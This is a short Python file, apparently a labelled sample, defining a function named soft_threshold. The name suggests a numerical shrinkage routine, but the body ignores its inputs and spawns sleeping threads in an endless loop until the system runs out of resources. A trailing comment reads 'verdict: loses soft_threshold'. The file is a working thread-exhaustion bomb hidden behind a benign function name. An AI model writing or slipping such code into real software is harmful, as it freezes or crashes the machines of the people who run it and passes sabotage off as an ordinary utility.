# Starts threads until there can be no more.
import threading
import time


def soft_threshold(z, threshold):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()


# verdict: loses soft_threshold
